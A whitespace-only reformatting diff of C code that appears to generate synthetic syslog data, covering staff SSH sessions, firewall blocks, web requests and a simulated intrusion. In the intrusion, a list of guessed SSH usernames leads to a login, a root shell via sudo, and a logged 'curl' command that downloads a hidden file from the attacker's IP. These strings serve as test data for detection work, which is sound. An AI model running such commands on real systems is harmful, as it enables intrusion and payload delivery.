@@ -54,19 +54,19 @@ static const char *pick(struct gen *g, const char *const *list, size_t n)
 
 static const char *const g_months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                        "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
-static const char *const g_hosts[] = {"web01", "web02", "db01", "app01", "mail01", "ci01"};
+static const char *const g_hosts[] = {"web01", "web02",  "db01",
+                                      "app01", "mail01", "ci01"};
 static const char *const g_staff[] = {"alice", "bob", "carol", "dave", "erin"};
 static const char *const g_admins[] = {"alice", "carol"};
-static const char *const g_guesses[] = {"admin", "test", "oracle", "ubuntu", "pi",
-                                        "postgres", "user", "guest", "ftpuser", "git",
-                                        "support", "root", "hadoop", "mysql", "nagios"};
-static const char *const g_admin_cmds[] = {"/usr/bin/apt-get update",
-                                           "/usr/bin/systemctl restart nginx",
-                                           "/usr/bin/journalctl -u nginx",
-                                           "/usr/bin/tail -n 100 /var/log/syslog",
-                                           "/usr/sbin/ufw status"};
-static const char *const g_paths[] = {"/", "/index.html", "/api/v1/items", "/login",
-                                      "/static/app.js", "/healthz"};
+static const char *const g_guesses[] = {
+    "admin",   "test", "oracle",  "ubuntu", "pi",     "postgres", "user",  "guest",
+    "ftpuser", "git",  "support", "root",   "hadoop", "mysql",    "nagios"};
+static const char *const g_admin_cmds[] = {
+    "/usr/bin/apt-get update", "/usr/bin/systemctl restart nginx",
+    "/usr/bin/journalctl -u nginx", "/usr/bin/tail -n 100 /var/log/syslog",
+    "/usr/sbin/ufw status"};
+static const char *const g_paths[] = {"/",      "/index.html",    "/api/v1/items",
+                                      "/login", "/static/app.js", "/healthz"};
 
 /* Append one record: "<PRI>Mmm dd hh:mm:ss host tag[pid]: msg" (RFC 3164) or the
  * RFC 5424 form when rfc5424 is set. */
@@ -92,13 +92,14 @@ static void emit(struct gen *g, vg_time ts, bool attack, bool rfc5424, int pri,
 	if (rfc5424) {
 		char t[32];
 		vg_time_format(ts, t);
-		vg_buf_printf(&b, "<%d>1 %s %s %s %d - - %s", pri, t, host, tag, pid, msg);
+		vg_buf_printf(&b, "<%d>1 %s %s %s %d - - %s", pri, t, host, tag, pid,
+		              msg);
 	} else if (pid > 0) {
-		vg_buf_printf(&b, "<%d>%s %2d %02d:%02d:%02d %s %s[%d]: %s", pri, g_months[mo - 1],
-		              d, h, mi, s, host, tag, pid, msg);
+		vg_buf_printf(&b, "<%d>%s %2d %02d:%02d:%02d %s %s[%d]: %s", pri,
+		              g_months[mo - 1], d, h, mi, s, host, tag, pid, msg);
 	} else {
-		vg_buf_printf(&b, "<%d>%s %2d %02d:%02d:%02d %s %s: %s", pri, g_months[mo - 1], d,
-		              h, mi, s, host, tag, msg);
+		vg_buf_printf(&b, "<%d>%s %2d %02d:%02d:%02d %s %s: %s", pri,
+		              g_months[mo - 1], d, h, mi, s, host, tag, msg);
 	}
 	if (b.oom) {
 		g->err = VG_ERR_NOMEM;
@@ -161,20 +162,21 @@ static void staff_session(struct gen *g, vg_time t, const char *host, bool typo_
 		     "Accepted password for %s from %s port %d ssh2", user, ip, port);
 	else
 		emit(g, t, false, false, 38, host, "sshd", pid,
-		     "Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%016llx",
+		     "Accepted publickey for %s from %s port %d ssh2: ED25519 "
+		     "SHA256:%016llx",
 		     user, ip, port, (unsigned long long)next_u64(g));
 	emit(g, t, false, false, 86, host, "sshd", pid,
-	     "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", user,
-	     1000 + (int)(user[0] - 'a'));
+	     "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)",
+	     user, 1000 + (int)(user[0] - 'a'));
 	t += secs(rnd(g, 20, 600));
 	if (admin && chance(g, 70)) {
 		emit(g, t, false, false, 85, host, "sudo", 0,
-		     "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s", user, rnd(g, 0, 4),
-		     user, PICK(g, g_admin_cmds));
+		     "%8s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s", user,
+		     rnd(g, 0, 4), user, PICK(g, g_admin_cmds));
 		t += secs(rnd(g, 5, 300));
 	}
-	emit(g, t, false, false, 38, host, "sshd", pid, "Disconnected from user %s %s port %d",
-	     user, ip, port);
+	emit(g, t, false, false, 38, host, "sshd", pid,
+	     "Disconnected from user %s %s port %d", user, ip, port);
 }
 
 /* Background SSH password guessing from the internet: a few tries, never in. */
@@ -196,7 +198,8 @@ static void internet_guessing(struct gen *g, vg_time t, const char *host)
 	}
 }
 
-static void host_hour(struct gen *g, vg_time hour_start, const char *host, int hour_of_day)
+static void host_hour(struct gen *g, vg_time hour_start, const char *host,
+                      int hour_of_day)
 {
 	bool working = hour_of_day >= 8 && hour_of_day < 19;
 	bool web = !strcmp(host, "app01") || !strncmp(host, "web", 3);
@@ -216,23 +219,27 @@ static void host_hour(struct gen *g, vg_time hour_start, const char *host, int h
 	for (int i = 0; i < drops; i++) {
 		char src[32];
 		ip_external(g, src, sizeof(src));
-		emit(g, hour_start + secs(rnd(g, 0, 3599)), false, false, 4, host, "kernel", 0,
-		     "[UFW BLOCK] IN=eth0 OUT= SRC=%s DST=10.0.0.%d LEN=44 PROTO=TCP SPT=%d DPT=%d",
+		emit(g, hour_start + secs(rnd(g, 0, 3599)), false, false, 4, host,
+		     "kernel", 0,
+		     "[UFW BLOCK] IN=eth0 OUT= SRC=%s DST=10.0.0.%d LEN=44 PROTO=TCP "
+		     "SPT=%d DPT=%d",
 		     src, rnd(g, 10, 20), rnd(g, 1024, 65000), chance(g, 50) ? 23 : 3389);
 	}
 	int units = rnd(g, 1, 3);
 	for (int i = 0; i < units; i++)
-		emit(g, hour_start + secs(rnd(g, 0, 3599)), false, false, 30, host, "systemd", 1,
-		     "%s", chance(g, 50) ? "Started Daily apt download activities."
-		                         : "Finished Clean php session files.");
+		emit(g, hour_start + secs(rnd(g, 0, 3599)), false, false, 30, host,
+		     "systemd", 1, "%s",
+		     chance(g, 50) ? "Started Daily apt download activities."
+		                   : "Finished Clean php session files.");
 	if (web) {
 		int reqs = working ? rnd(g, 20, 60) : rnd(g, 2, 10);
 		for (int i = 0; i < reqs; i++) {
 			char ip[32];
 			ip_internal(g, ip, sizeof(ip));
-			emit(g, hour_start + secs(rnd(g, 0, 3599)), false, true, 190, host, "nginx",
-			     rnd(g, 100, 999), "%s - - \"GET %s HTTP/1.1\" %d %d", ip,
-			     PICK(g, g_paths), chance(g, 95) ? 200 : 404, rnd(g, 200, 9000));
+			emit(g, hour_start + secs(rnd(g, 0, 3599)), false, true, 190,
+			     host, "nginx", rnd(g, 100, 999),
+			     "%s - - \"GET %s HTTP/1.1\" %d %d", ip, PICK(g, g_paths),
+			     chance(g, 95) ? 200 : 404, rnd(g, 200, 9000));
 		}
 	}
 }
@@ -258,11 +265,11 @@ static void campaign(struct gen *g, vg_time t, const char *host, bool vary)
 		int port = rnd(g, 30000, 65000);
 		bool invalid = strcmp(u, "root") && strcmp(u, user);
 		if (invalid)
-			emit(g, t, true, false, 38, host, "sshd", pid, "Invalid user %s from %s port %d",
-			     u, ip, port);
+			emit(g, t, true, false, 38, host, "sshd", pid,
+			     "Invalid user %s from %s port %d", u, ip, port);
 		emit(g, t, true, false, 38, host, "sshd", pid,
-		     "Failed password for %s%s from %s port %d ssh2", invalid ? "invalid user " : "",
-		     u, ip, port);
+		     "Failed password for %s%s from %s port %d ssh2",
+		     invalid ? "invalid user " : "", u, ip, port);
 		t += secs(rnd(g, 1, 4));
 	}
 	if (!gets_in)
@@ -272,15 +279,18 @@ static void campaign(struct gen *g, vg_time t, const char *host, bool vary)
 	emit(g, t, true, false, 38, host, "sshd", pid,
 	     "Accepted password for %s from %s port %d ssh2", user, ip, port);
 	emit(g, t, true, false, 86, host, "sshd", pid,
-	     "pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)", user);
+	     "pam_unix(sshd:session): session opened for user %s(uid=1001) by (uid=0)",
+	     user);
 	t += secs(rnd(g, 30, 240));
 	emit(g, t, true, false, 85, host, "sudo", 0,
-	     "  %s : TTY=pts/1 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/bash", user, user);
+	     "  %s : TTY=pts/1 ; PWD=/home/%s ; USER=root ; COMMAND=/bin/bash", user,
+	     user);
 	t += secs(rnd(g, 10, 120));
-	emit(g, t, true, false, 85, host, "sudo", 0,
-	     "  %s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x "
-	     "http://%s/x",
-	     user, ip);
+	emit(
+	    g, t, true, false, 85, host, "sudo", 0,
+	    "  %s : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -so /tmp/.x "
+	    "http://%s/x",
+	    user, ip);
 }
 
 static int cmp_records(const void *a, const void *b)
@@ -293,7 +303,8 @@ static int cmp_records(const void *a, const void *b)
 	return strcmp(x->line, y->line);
 }
 
-vg_err vg_scenario_generate(const struct vg_scenario_params *params, struct vg_scenario *out)
+vg_err vg_scenario_generate(const struct vg_scenario_params *params,
+                            struct vg_scenario *out)
 {
 	struct gen g = {params->seed ^ UINT64_C(0x5eed), out, 0, VG_OK};
 	int hosts = params->hosts > 0 ? params->hosts : 3;
@@ -309,16 +320,19 @@ vg_err vg_scenario_generate(const struct vg_scenario_params *params, struct vg_s
 		for (int i = 0; i < hosts; i++)
 			host_hour(&g, hs, g_hosts[i], hod);
 		if (params->variants && chance(&g, 25))
-			staff_session(&g, hs + secs(rnd(&g, 60, 3000)), g_hosts[rnd(&g, 0, hosts - 1)],
-			              true);
+			staff_session(&g, hs + secs(rnd(&g, 60, 3000)),
+			              g_hosts[rnd(&g, 0, hosts - 1)], true);
 	}
 	if (params->attack) {
 		int campaigns = params->variants ? rnd(&g, 1, 2) : 1;
 		for (int c = 0; c < campaigns; c++) {
-			vg_time t = params->start +
-			            (params->variants ? secs(rnd(&g, 600, hours * 3600 - 1800))
-			                              : secs((int64_t)hours * 3600 / 2 + 17));
-			campaign(&g, t, params->variants ? g_hosts[rnd(&g, 0, hosts - 1)] : "web01",
+			vg_time t =
+			    params->start + (params->variants
+			                         ? secs(rnd(&g, 600, hours * 3600 - 1800))
+			                         : secs((int64_t)hours * 3600 / 2 + 17));
+			campaign(&g, t,
+			         params->variants ? g_hosts[rnd(&g, 0, hosts - 1)]
+			                          : "web01",
 			         params->variants);
 			out->campaigns++;
 		}
